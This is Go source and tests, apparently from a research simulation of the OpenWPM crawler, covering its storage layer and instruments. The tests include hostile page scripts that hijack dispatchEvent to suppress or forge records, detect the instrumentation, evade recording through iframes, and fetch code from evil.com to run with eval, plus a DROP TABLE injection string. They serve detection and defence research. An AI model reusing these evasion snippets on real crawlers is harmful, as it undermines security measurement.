func (s *Storage) Merge(other *Storage) {
	s.JSCalls = append(s.JSCalls, other.JSCalls...)
	s.Requests = append(s.Requests, other.Requests...)
	s.Cookies = append(s.Cookies, other.Cookies...)
	s.Visits = append(s.Visits, other.Visits...)
	s.Crashes = append(s.Crashes, other.Crashes...)
	have := make(map[string]bool, len(s.Tampers))
	for _, t := range s.Tampers {
		have[t.SHA256] = true
	}
	for _, t := range other.Tampers {
		// shards that saw the same body both analysed it; keep one record
		if !have[t.SHA256] {
			have[t.SHA256] = true
			s.Tampers = append(s.Tampers, t)
		}
	}
	if len(other.Dropped) > 0 {
		if s.Dropped == nil {
			s.Dropped = map[string]int{}
		}
		for table, n := range other.Dropped {
			s.Dropped[table] += n
		}
	}
	for key, f := range other.ScriptFiles {
		existing, ok := s.ScriptFiles[key]
		if !ok {
			s.ScriptFiles[key] = f
			continue
		}
		for _, u := range f.URLs {
			dup := false
			for _, eu := range existing.URLs {
				if eu == u {
					dup = true
					break
				}
			}
			if !dup {
				existing.URLs = append(existing.URLs, u)
			}
		}
		s.ScriptFiles[key] = existing
	}
}

// JSCallsBySymbol tallies recorded calls per symbol.
func (s *Storage) JSCallsBySymbol() map[string]int {
	out := map[string]int{}
	for _, c := range s.JSCalls {
		out[c.Symbol]++
	}
	return out
}

// RequestsByType tallies requests per resource type.
func (s *Storage) RequestsByType() map[httpsim.ResourceType]int {
	out := map[httpsim.ResourceType]int{}
	for _, r := range s.Requests {
		out[r.Type]++
	}
	return out
}

// Digest is a deterministic SHA-256 over every table: two crawls that
// stored the same records in the same order share a digest. Record-ordered
// tables hash in insertion order; the content-addressed script store and
// the dropped-write counters hash in sorted key order. Replaying a crawl
// from its execution bundle must reproduce this digest exactly.
func (s *Storage) Digest() string {
	h := sha256.New()
	for _, v := range s.Visits {
		fmt.Fprintf(h, "visit|%s|%s|%s|%t|%t|%q|%d|%t|%d|%s|%t\n",
			v.SiteURL, v.FinalURL, v.Site, v.Subpage, v.OK, v.Error,
			v.CSPReports, v.InstrumentInstalled, v.Restarts, v.ErrorClass, v.Salvaged)
	}
	for _, c := range s.Crashes {
		fmt.Fprintf(h, "crash|%s|%s|%d|%s|%q\n", c.SiteURL, c.PageURL, c.Attempt, c.Class, c.Error)
	}
	for _, r := range s.Requests {
		fmt.Fprintf(h, "request|%s|%s|%s|%s|%d|%s|%g|%d\n",
			r.Method, r.URL, r.TopURL, r.Type, r.Status, r.CType, r.Time, r.BodySize)
	}
	for _, c := range s.JSCalls {
		fmt.Fprintf(h, "jscall|%s|%s|%s|%q|%q|%q|%s|%g\n",
			c.TopURL, c.FrameURL, c.Symbol, c.Operation, c.Value, c.Args, c.ScriptURL, c.Time)
	}
	for _, c := range s.Cookies {
		fmt.Fprintf(h, "cookie|%q|%q|%s|%s|%g|%t|%t|%g\n",
			c.Name, c.Value, c.Domain, c.TopURL, c.Expires, c.ViaJS, c.FirstParty, c.Time)
	}
	hashes := make([]string, 0, len(s.ScriptFiles))
	for k := range s.ScriptFiles {
		hashes = append(hashes, k)
	}
	sort.Strings(hashes)
	for _, k := range hashes {
		f := s.ScriptFiles[k]
		urls := append([]string(nil), f.URLs...)
		sort.Strings(urls)
		fmt.Fprintf(h, "script|%s|%s|%s\n", k, f.CType, strings.Join(urls, ","))
	}
	tampers := append([]TamperRecord(nil), s.Tampers...)
	sort.Slice(tampers, func(i, j int) bool { return tampers[i].SHA256 < tampers[j].SHA256 })
	for _, t := range tampers {
		fmt.Fprintf(h, "tamper|%s|%s|%t", t.SHA256, t.URL, t.Parsed)
		for _, f := range t.Findings {
			fmt.Fprintf(h, "|%s:%d:%q", f.Rule, f.Line, f.Detail)
		}
		fmt.Fprintln(h)
	}
	tables := make([]string, 0, len(s.Dropped))
	for t := range s.Dropped {
		tables = append(tables, t)
	}
	sort.Strings(tables)
	for _, t := range tables {
		fmt.Fprintf(h, "dropped|%s|%d\n", t, s.Dropped[t])
	}
	return hex.EncodeToString(h.Sum(nil))
}
