// Package openwpm simulates the OpenWPM measurement framework on top of the
// simulated browser: a TaskManager orchestrating visits, a BrowserManager
// restarting crashed browsers, and the three instruments the paper studies —
// JavaScript call recording, HTTP traffic recording and cookie recording.
// The vanilla JS instrument deliberately reproduces the weaknesses the paper
// identifies (Secs. 3.1.4 and 5); package stealth provides the hardened
// variant (WPM_hide).
package openwpm

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"

	"gullible/internal/httpsim"
)

// JSCall is one recorded JavaScript API interaction.
type JSCall struct {
	TopURL    string // set host-side; a page cannot spoof it (Sec. 5.2)
	FrameURL  string
	Symbol    string // "Interface.property"
	Operation string // "get", "set" or "call"
	Value     string
	Args      string
	ScriptURL string // as reported by the in-page instrumentation
	Time      float64
}

// RequestRecord is one recorded HTTP request.
type RequestRecord struct {
	URL      string
	TopURL   string
	Type     httpsim.ResourceType
	Method   string
	Status   int
	CType    string
	Time     float64
	BodySize int
}

// CookieEntry is one recorded cookie store operation.
type CookieEntry struct {
	Name       string
	Value      string
	Domain     string
	TopURL     string
	Expires    float64
	ViaJS      bool
	FirstParty bool
	Time       float64
}

// ScriptFile is a stored response body (a JavaScript file, or any body in
// full-coverage mode). Identical content is stored once; URLs lists every
// location it was served from.
type ScriptFile struct {
	URL     string // first URL observed
	SHA256  string
	Content string
	CType   string
	URLs    []string // all URLs serving this content, deduplicated
}

// VisitRecord summarises one page visit.
type VisitRecord struct {
	SiteURL    string
	FinalURL   string
	Subpage    bool
	OK         bool
	Error      string
	CSPReports int
	// InstrumentInstalled reports whether the JS instrument attached
	// successfully (CSP can block the vanilla injection, Sec. 5.1.2).
	InstrumentInstalled bool
}

// Storage is OpenWPM's data store. Inputs that originate in page-controlled
// data pass through Sanitize, mirroring the parameterised SQLite layer the
// paper found to be injection-safe (Sec. 5.3).
type Storage struct {
	JSCalls     []JSCall
	Requests    []RequestRecord
	Cookies     []CookieEntry
	ScriptFiles map[string]ScriptFile // keyed by content hash
	Visits      []VisitRecord
}

// NewStorage returns an empty store.
func NewStorage() *Storage {
	return &Storage{ScriptFiles: map[string]ScriptFile{}}
}

// Sanitize neutralises page-controlled strings before storage: quotes are
// escaped and length is bounded, so stored fields can never break out of a
// record (the SQL-injection surface of RQ7).
func Sanitize(s string) string {
	s = strings.ReplaceAll(s, "'", "''")
	s = strings.ReplaceAll(s, "\x00", "")
	s = strings.ReplaceAll(s, "\n", "\\n")
	if len(s) > 512 {
		s = s[:512]
	}
	return s
}

// AddJSCall stores a JS call record, sanitising page-controlled fields.
func (s *Storage) AddJSCall(c JSCall) {
	c.Symbol = Sanitize(c.Symbol)
	c.Value = Sanitize(c.Value)
	c.Args = Sanitize(c.Args)
	c.ScriptURL = Sanitize(c.ScriptURL)
	s.JSCalls = append(s.JSCalls, c)
}

// AddScriptFile stores a response body keyed by hash, tracking every URL
// that served it.
func (s *Storage) AddScriptFile(url, content, ctype string) {
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	f, ok := s.ScriptFiles[key]
	if !ok {
		s.ScriptFiles[key] = ScriptFile{URL: url, SHA256: key, Content: content, CType: ctype, URLs: []string{url}}
		return
	}
	for _, u := range f.URLs {
		if u == url {
			return
		}
	}
	f.URLs = append(f.URLs, url)
	s.ScriptFiles[key] = f
}

// Merge folds other's records into s (used to combine per-worker storages
// after a sharded crawl).
func (s *Storage) Merge(other *Storage) {
	s.JSCalls = append(s.JSCalls, other.JSCalls...)
	s.Requests = append(s.Requests, other.Requests...)
	s.Cookies = append(s.Cookies, other.Cookies...)
	s.Visits = append(s.Visits, other.Visits...)
	for key, f := range other.ScriptFiles {
		existing, ok := s.ScriptFiles[key]
		if !ok {
			s.ScriptFiles[key] = f
			continue
		}
		for _, u := range f.URLs {
			dup := false
			for _, eu := range existing.URLs {
				if eu == u {
					dup = true
					break
				}
			}
			if !dup {
				existing.URLs = append(existing.URLs, u)
			}
		}
		s.ScriptFiles[key] = existing
	}
}

// JSCallsBySymbol tallies recorded calls per symbol.
func (s *Storage) JSCallsBySymbol() map[string]int {
	out := map[string]int{}
	for _, c := range s.JSCalls {
		out[c.Symbol]++
	}
	return out
}

// RequestsByType tallies requests per resource type.
func (s *Storage) RequestsByType() map[httpsim.ResourceType]int {
	out := map[httpsim.ResourceType]int{}
	for _, r := range s.Requests {
		out[r.Type]++
	}
	return out
}
