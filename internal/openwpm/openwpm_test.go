package openwpm

import (
	"errors"
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

// web is a canned transport for tests.
type web struct {
	pages map[string]*httpsim.Response
	fail  map[string]int // URL → remaining failures
	log   httpsim.Log
}

func (w *web) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	if w.fail[req.URL] > 0 {
		w.fail[req.URL]--
		return nil, errors.New("connection reset")
	}
	resp, ok := w.pages[req.URL]
	w.log.Add(req, resp)
	if !ok {
		return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	return resp, nil
}

func htmlPage(body string, headers map[string]string) *httpsim.Response {
	h := map[string]string{"Content-Type": "text/html"}
	for k, v := range headers {
		h[k] = v
	}
	return &httpsim.Response{Status: 200, Headers: h, Body: body}
}

func tmFor(w *web) *TaskManager {
	return NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport:    w,
		DwellSeconds: 1,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
	})
}

func TestJSInstrumentRecordsCalls(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<script src="https://a.com/probe.js"></script>`, nil),
		"https://a.com/probe.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: `var ua = navigator.userAgent; var w = screen.width;
			var c = document.createElement("canvas"); c.getContext("2d");`},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.userAgent"] == 0 {
		t.Errorf("Navigator.userAgent get not recorded; have %v", keys(calls))
	}
	if calls["Screen.width"] == 0 {
		t.Error("Screen.width get not recorded")
	}
	if calls["HTMLCanvasElement.getContext"] == 0 {
		t.Error("getContext call not recorded")
	}
	// script attribution
	var found bool
	for _, c := range tm.Storage.JSCalls {
		if c.Symbol == "Navigator.userAgent" && strings.Contains(c.ScriptURL, "probe.js") {
			found = true
		}
	}
	if !found {
		t.Error("originating script URL not attributed to probe.js")
	}
	// TopURL is set host-side
	for _, c := range tm.Storage.JSCalls {
		if c.TopURL != "https://a.com/" {
			t.Fatalf("TopURL = %q", c.TopURL)
		}
	}
}

func keys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// visitAndEval runs a page and returns a JS expression evaluated in the top
// realm afterwards.
func visitAndEval(t *testing.T, tm *TaskManager, url, expr string) string {
	t.Helper()
	bm := &BrowserManager{tm: tm}
	if _, err := bm.Visit(url); err != nil {
		t.Fatal(err)
	}
	v, err := bm.Browser().Top.It.RunScript(expr, "check.js")
	if err != nil {
		t.Fatalf("eval %q: %v", expr, err)
	}
	return v.ToString()
}

func TestListing1ToStringDetectability(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	got := visitAndEval(t, tm, "https://a.com/",
		`document.createElement("canvas").getContext.toString()`)
	if !strings.Contains(got, "getOriginatingScriptContext") {
		t.Errorf("wrapper toString does not leak instrumentation:\n%s", got)
	}
	if strings.Contains(got, "[native code]") {
		t.Error("wrapper toString claims to be native")
	}
}

func TestIdentifyingWindowGlobals(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	if got := visitAndEval(t, tm, "https://a.com/", "typeof window.getInstrumentJS"); got != "function" {
		t.Errorf("getInstrumentJS = %s, want function", got)
	}
	// legacy globals for OpenWPM 0.10.0
	w2 := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm2 := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w2, DwellSeconds: 1,
		JSInstrument: true, LegacyInstrumentGlobals: true,
	})
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.jsInstruments"); got != "function" {
		t.Errorf("legacy jsInstruments = %s", got)
	}
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.instrumentFingerprintingApis"); got != "function" {
		t.Errorf("legacy instrumentFingerprintingApis = %s", got)
	}
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.getInstrumentJS"); got != "undefined" {
		t.Errorf("legacy build must not define getInstrumentJS, got %s", got)
	}
}

func TestPrototypePollution(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	// Fig. 2: document's instrumented attributes get defined on the FIRST
	// prototype (HTMLDocument.prototype) rather than Document.prototype.
	got := visitAndEval(t, tm, "https://a.com/",
		`Object.getPrototypeOf(document).hasOwnProperty("cookie") + "," + HTMLDocument.prototype.hasOwnProperty("cookie")`)
	if got != "true,true" {
		t.Errorf("pollution marker = %s, want true,true", got)
	}
	// clean browser: cookie lives on Document.prototype only
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	got = visitAndEval(t, cleanTM, "https://a.com/",
		`Object.getPrototypeOf(document).hasOwnProperty("cookie")`)
	if got != "false" {
		t.Errorf("clean browser pollution marker = %s, want false", got)
	}
}

func TestStackTraceLeaksInstrumentation(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	// Provoke an error in an overwritten function and read the stack trace
	// (Sec. 3.1.4): the wrapper frame betrays the instrumentation.
	probe := `
		var leak = "";
		try { new AudioContext().decodeAudioData(); } catch (e) { leak = e.stack }
		leak`
	got := visitAndEval(t, tm, "https://a.com/", probe)
	if !strings.Contains(got, InstrumentScriptName) {
		t.Errorf("stack trace does not leak instrumentation:\n%s", got)
	}
	// clean browser: same error, no instrumentation frames
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	got = visitAndEval(t, cleanTM, "https://a.com/", probe)
	if got == "" {
		t.Fatal("clean browser did not throw")
	}
	if strings.Contains(got, InstrumentScriptName) {
		t.Errorf("clean browser stack mentions instrumentation:\n%s", got)
	}
}

func TestGetterNoLongerThrowsOnPrototype(t *testing.T) {
	// Clean browser: invoking the userAgent getter with a foreign receiver
	// throws. Vanilla instrumentation swallows that error (Sec. 6.1.1).
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	probe := `
		var r = "no-throw";
		try {
			Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.call({});
		} catch (e) { r = "throw" }
		r`
	if got := visitAndEval(t, cleanTM, "https://a.com/", probe); got != "throw" {
		t.Errorf("clean browser getter: %s, want throw", got)
	}
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	if got := visitAndEval(t, tm, "https://a.com/", probe); got != "no-throw" {
		t.Errorf("instrumented getter: %s, want no-throw", got)
	}
}

func TestCSPBlocksVanillaInstrumentation(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://csp.com/": htmlPage(
			`<script src="/probe.js"></script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self'; report-uri /csp"}),
		"https://csp.com/probe.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: "var x = navigator.userAgent;"},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://csp.com/"); err != nil {
		t.Fatal(err)
	}
	// page ran, but the instrument never installed: no JS calls recorded
	if n := len(tm.Storage.JSCalls); n != 0 {
		t.Errorf("recorded %d JS calls despite CSP", n)
	}
	if len(tm.Storage.Visits) == 0 || tm.Storage.Visits[0].InstrumentInstalled {
		t.Error("visit record claims instrumentation installed")
	}
	// a csp_report request was emitted
	if w.log.CountByType()[httpsim.TypeCSPReport] == 0 {
		t.Error("no csp_report request")
	}
}

func TestDispatcherInterceptionBlocksRecording(t *testing.T) {
	// Listing 2: the page grabs the random event id, then swallows matching
	// events — recording stops, while normal APIs keep working.
	attack := `
		var dispatch_fn = document.dispatchEvent.bind(document);
		var grabbedID = "";
		document.dispatchEvent = function (event) {
			if (grabbedID === "") { grabbedID = event.type; return true; }
			if (event.type !== grabbedID) { return dispatch_fn(event); }
			return true; // swallowed
		};
		navigator.userAgent;          // sacrificial call to learn the id
		var secret1 = navigator.oscpu;      // unobserved
		var secret2 = screen.availTop;      // unobserved
	`
	w := &web{pages: map[string]*httpsim.Response{
		"https://evil.com/": htmlPage("<script>"+attack+"</script>", nil),
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://evil.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.oscpu"] != 0 || calls["Screen.availTop"] != 0 {
		t.Errorf("post-attack calls still recorded: %v", calls)
	}
}

func TestFakeDataInjection(t *testing.T) {
	// Sec. 5.2: after learning the id, the page forges records — but cannot
	// spoof the top-level URL, which is set host-side.
	attack := `
		var dispatch_fn = document.dispatchEvent.bind(document);
		var grabbedID = "";
		document.dispatchEvent = function (event) {
			if (grabbedID === "") { grabbedID = event.type; }
			return dispatch_fn(event);
		};
		navigator.userAgent; // learn the id
		dispatch_fn(new CustomEvent(grabbedID, { detail: {
			symbol: "Navigator.FAKE", operation: "call",
			args: "forged", scriptUrl: "https://innocent.example/clean.js"
		}}));
	`
	w := &web{pages: map[string]*httpsim.Response{
		"https://evil.com/": htmlPage("<script>"+attack+"</script>", nil),
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://evil.com/"); err != nil {
		t.Fatal(err)
	}
	var fake *JSCall
	for i := range tm.Storage.JSCalls {
		if tm.Storage.JSCalls[i].Symbol == "Navigator.FAKE" {
			fake = &tm.Storage.JSCalls[i]
		}
	}
	if fake == nil {
		t.Fatal("forged record not injected (attack should succeed)")
	}
	if fake.ScriptURL != "https://innocent.example/clean.js" {
		t.Errorf("forged scriptUrl = %q", fake.ScriptURL)
	}
	if fake.TopURL != "https://evil.com/" {
		t.Errorf("TopURL was spoofed: %q", fake.TopURL)
	}
}

func TestIframeImmediateAccessUnobserved(t *testing.T) {
	// Listing 3: immediate execution at creation time escapes recording;
	// the same access a tick later is recorded.
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<div id="unobserved"></div><script>
			setTimeout(function () {
				var element = document.querySelector("#unobserved");
				var iframe = document.createElement("iframe");
				iframe.src = "https://a.com/frame";
				element.appendChild(iframe);
				iframe.contentWindow.navigator.userAgent; // immediate: unobserved
				setTimeout(function () {
					iframe.contentWindow.navigator.oscpu; // delayed: observed
				}, 600);
			}, 500);
		</script>`, nil),
		"https://a.com/frame": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	tm.Cfg.DwellSeconds = 5
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var sawUA, sawOscpu bool
	for _, c := range tm.Storage.JSCalls {
		if c.FrameURL == "https://a.com/frame" {
			if c.Symbol == "Navigator.userAgent" {
				sawUA = true
			}
			if c.Symbol == "Navigator.oscpu" {
				sawOscpu = true
			}
		}
	}
	if sawUA {
		t.Error("immediate iframe access was recorded; the Sec. 5.4.1 bypass should work")
	}
	if !sawOscpu {
		t.Error("delayed iframe access was not recorded")
	}
}

func TestHTTPFilterJSOnlyMissesSilentDelivery(t *testing.T) {
	// Listing 4: code delivered as text/plain without .js extension and
	// executed via eval escapes JS-only response storage.
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<script src="/app.js"></script>`, nil),
		"https://a.com/app.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: `fetch("https://evil.com/cheat").then(function(r){ return r.text() }).then(function(code){ eval(code) });`},
		"https://evil.com/cheat": {Status: 200, Headers: map[string]string{"Content-Type": "text/plain"},
			Body: `var stealthRan = navigator.userAgent;`},
	}}
	tm := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w, DwellSeconds: 2,
		JSInstrument: true, HTTPInstrument: true, HTTPFilterJSOnly: true,
	})
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	for _, f := range tm.Storage.ScriptFiles {
		if strings.Contains(f.Content, "stealthRan") {
			t.Error("silently delivered payload was stored despite JS-only filter")
		}
	}
	var appStored bool
	for _, f := range tm.Storage.ScriptFiles {
		if f.URL == "https://a.com/app.js" {
			appStored = true
		}
	}
	if !appStored {
		t.Error("regular JS file not stored")
	}
	// the payload DID run (the JS instrument caught the call it makes)
	if tm.Storage.JSCallsBySymbol()["Navigator.userAgent"] == 0 {
		t.Error("eval'd payload did not execute")
	}
	// full-coverage mode stores the payload
	w2 := &web{pages: w.pages}
	tm2 := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w2, DwellSeconds: 2,
		JSInstrument: true, HTTPInstrument: true, HTTPFilterJSOnly: false,
	})
	if _, err := tm2.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var stored bool
	for _, f := range tm2.Storage.ScriptFiles {
		if strings.Contains(f.Content, "stealthRan") {
			stored = true
		}
	}
	if !stored {
		t.Error("full-coverage mode must store all bodies")
	}
}

func TestCookieInstrument(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": {
			Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body:       `<script>document.cookie = "jsid=9; Max-Age=7776000";</script>`,
			SetCookies: []httpsim.Cookie{{Name: "httpid", Value: "1", Expires: 7776000}},
		},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if len(tm.Storage.Cookies) != 2 {
		t.Fatalf("cookies recorded = %d, want 2", len(tm.Storage.Cookies))
	}
	var js, http bool
	for _, c := range tm.Storage.Cookies {
		if c.Name == "jsid" && c.ViaJS {
			js = true
		}
		if c.Name == "httpid" && !c.ViaJS {
			http = true
		}
	}
	if !js || !http {
		t.Errorf("cookie records wrong: %+v", tm.Storage.Cookies)
	}
}

func TestSanitizationBlocksSQLishInjection(t *testing.T) {
	in := "'; DROP TABLE javascript; --"
	out := Sanitize(in)
	// every quote must be doubled so the payload can never terminate a
	// quoted string in the storage layer
	if want := strings.ReplaceAll(in, "'", "''"); out != want {
		t.Errorf("Sanitize(%q) = %q, want %q", in, out, want)
	}
	if strings.Count(out, "'")%2 != 0 {
		t.Errorf("odd number of quotes after sanitisation: %q", out)
	}
}

func TestBrowserManagerRestartsOnCrash(t *testing.T) {
	w := &web{
		pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)},
		fail:  map[string]int{"https://a.com/": 1},
	}
	tm := tmFor(w)
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatalf("visit failed despite retry: %v", err)
	}
	if sv.Restarts != 1 {
		t.Errorf("restarts = %d, want 1", sv.Restarts)
	}
}

func TestSubpageSelection(t *testing.T) {
	links := []string{
		"https://a.com/p1", "https://cdn.other.com/x", "https://a.com/p1",
		"https://sub.a.com/p2", "https://a.com/p3", "https://a.com/p4",
	}
	subs := SelectSubpages("https://a.com/", links, 3)
	if len(subs) != 3 {
		t.Fatalf("subs = %v", subs)
	}
	if subs[0] != "https://a.com/p1" || subs[1] != "https://sub.a.com/p2" || subs[2] != "https://a.com/p3" {
		t.Errorf("subs = %v", subs)
	}
}

func TestSubpagesVisited(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/":   htmlPage(`<a href="/s1">1</a><a href="/s2">2</a>`, nil),
		"https://a.com/s1": htmlPage("<html></html>", nil),
		"https://a.com/s2": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	tm.Cfg.MaxSubpages = 3
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if len(sv.Subpages) != 2 {
		t.Errorf("subpages visited = %d, want 2", len(sv.Subpages))
	}
	var subRecords int
	for _, v := range tm.Storage.Visits {
		if v.Subpage && v.OK {
			subRecords++
		}
	}
	if subRecords != 2 {
		t.Errorf("subpage visit records = %d", subRecords)
	}
}
