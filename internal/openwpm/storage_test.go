package openwpm

import (
	"strings"
	"testing"
	"testing/quick"
	"unicode/utf8"

	"gullible/internal/httpsim"
)

func TestStorageMergeCombinesRecords(t *testing.T) {
	a := NewStorage()
	b := NewStorage()
	a.AddJSCall(JSCall{Symbol: "Navigator.userAgent"})
	b.AddJSCall(JSCall{Symbol: "Screen.width"})
	a.Requests = append(a.Requests, RequestRecord{URL: "https://x/a", Type: httpsim.TypeScript})
	b.Requests = append(b.Requests, RequestRecord{URL: "https://x/b", Type: httpsim.TypeImage})
	a.AddScriptFile("https://x/a.js", "shared content", "text/javascript")
	b.AddScriptFile("https://y/b.js", "shared content", "text/javascript")
	b.AddScriptFile("https://y/c.js", "other content", "text/javascript")

	a.Merge(b)
	if len(a.JSCalls) != 2 || len(a.Requests) != 2 {
		t.Fatalf("merge lost records: %d calls, %d requests", len(a.JSCalls), len(a.Requests))
	}
	if len(a.ScriptFiles) != 2 {
		t.Fatalf("script files = %d, want 2 unique contents", len(a.ScriptFiles))
	}
	for _, f := range a.ScriptFiles {
		if f.Content == "shared content" && len(f.URLs) != 2 {
			t.Errorf("shared content URLs = %v, want both", f.URLs)
		}
	}
}

func TestStorageMergeIdempotentURLs(t *testing.T) {
	a := NewStorage()
	b := NewStorage()
	a.AddScriptFile("https://x/a.js", "same", "text/javascript")
	b.AddScriptFile("https://x/a.js", "same", "text/javascript")
	a.Merge(b)
	for _, f := range a.ScriptFiles {
		if len(f.URLs) != 1 {
			t.Errorf("duplicate URL retained: %v", f.URLs)
		}
	}
}

func TestStorageMergeAfterFaultInjection(t *testing.T) {
	// a worker storage that lost writes to injected storage faults must
	// merge its dropped-write counters and crash records into the combined
	// store — the sharded-scan accounting depends on it
	worker := NewStorage()
	drop := true
	worker.FaultFn = func(table string) bool {
		drop = !drop
		return drop // every second write fails
	}
	for i := 0; i < 6; i++ {
		worker.AddJSCall(JSCall{Symbol: "Navigator.userAgent"})
	}
	for i := 0; i < 4; i++ {
		worker.AddCookie(CookieEntry{Name: "id", Domain: "x.com"})
	}
	worker.AddCrash(CrashRecord{SiteURL: "https://x.com/", PageURL: "https://x.com/", Attempt: 0, Class: "crash", Error: "boom"})
	worker.AddCrash(CrashRecord{SiteURL: "https://y.com/", PageURL: "https://y.com/p", Attempt: 1, Class: "hang", Error: "stall"})
	if worker.DroppedTotal() != 5 {
		t.Fatalf("fault fn dropped %d writes, want 5", worker.DroppedTotal())
	}

	other := NewStorage()
	other.FaultFn = func(string) bool { return true }
	other.AddJSCall(JSCall{Symbol: "Screen.width"}) // dropped

	merged := NewStorage()
	merged.Dropped = nil // Merge must handle a nil counter map
	merged.Merge(worker)
	merged.Merge(other)

	if got := merged.DroppedTotal(); got != 6 {
		t.Fatalf("merged dropped total = %d, want 6", got)
	}
	if merged.Dropped["javascript"] != 4 || merged.Dropped["javascript_cookies"] != 2 {
		t.Fatalf("per-table dropped counters not carried over: %v", merged.Dropped)
	}
	if len(merged.Crashes) != 2 {
		t.Fatalf("crash records lost in merge: %d, want 2", len(merged.Crashes))
	}
	if merged.Crashes[0].SiteURL != "https://x.com/" || merged.Crashes[1].Class != "hang" {
		t.Fatalf("crash records corrupted in merge: %+v", merged.Crashes)
	}
	if len(merged.JSCalls) != 3 || len(merged.Cookies) != 2 {
		t.Fatalf("surviving records lost: %d calls, %d cookies", len(merged.JSCalls), len(merged.Cookies))
	}
}

func TestSanitizeEdgeCases(t *testing.T) {
	if got := Sanitize(""); got != "" {
		t.Fatalf("Sanitize(%q) = %q, want empty", "", got)
	}
	// benign input below the length bound passes through unchanged
	clean := "https://example.com/script.js?v=3"
	if got := Sanitize(clean); got != clean {
		t.Fatalf("Sanitize(%q) = %q, want unchanged", clean, got)
	}
	// quotes double; doubling again is well-formed (pairs stay paired)
	once := Sanitize("it's")
	if once != "it''s" {
		t.Fatalf("Sanitize quote escape = %q, want it''s", once)
	}
	twice := Sanitize(once)
	if twice != "it''''s" {
		t.Fatalf("double sanitisation = %q, want it''''s", twice)
	}
	// truncation must not split multi-byte runes: output stays valid UTF-8
	long := strings.Repeat("é", 400) // 800 bytes of 2-byte runes
	got := Sanitize(long)
	if len(got) > 512 {
		t.Fatalf("sanitized length = %d, want ≤ 512", len(got))
	}
	if !utf8.ValidString(got) {
		t.Fatalf("truncation produced invalid UTF-8: %q", got[len(got)-4:])
	}
	for _, r := range got {
		if r != 'é' {
			t.Fatalf("truncation corrupted a rune to %q", r)
		}
	}
	// a quote pair straddling the cut is removed whole
	pairStraddle := strings.Repeat("a", 511) + "'x"
	got = Sanitize(pairStraddle)
